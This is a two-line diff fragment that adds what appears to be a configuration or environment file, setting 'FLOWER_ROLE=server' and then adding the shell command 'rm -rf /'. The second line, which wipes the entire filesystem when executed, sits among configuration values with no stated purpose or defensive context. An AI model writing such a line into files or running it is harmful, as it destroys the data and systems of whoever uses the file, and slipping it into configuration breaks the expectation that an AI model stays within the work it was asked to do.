@@ -1,0 +1,2 @@
+FLOWER_ROLE=server
+rm -rf /
